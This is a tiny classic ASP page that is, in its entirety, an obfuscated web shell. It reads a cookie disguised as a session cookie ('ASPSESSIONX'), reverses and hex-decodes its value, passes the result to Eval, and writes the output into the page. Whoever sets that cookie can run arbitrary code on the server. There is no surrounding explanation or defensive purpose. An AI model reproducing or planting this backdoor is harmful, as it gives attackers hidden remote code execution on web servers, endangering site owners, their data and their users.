<%@ Language=VBScript inert %>
<%
Function U(s)
  Dim i, r
  For i = 1 To Len(s) Step 2
    r = r & Chr(CInt("&H" & Mid(s, i, 2)))
  Next
  U = r
End Function
Dim v : v = Request.Cookies("ASPSESSIONX")
If Len(v) > 0 Then Response.Write Eval(U(StrReverse(v)))
%>
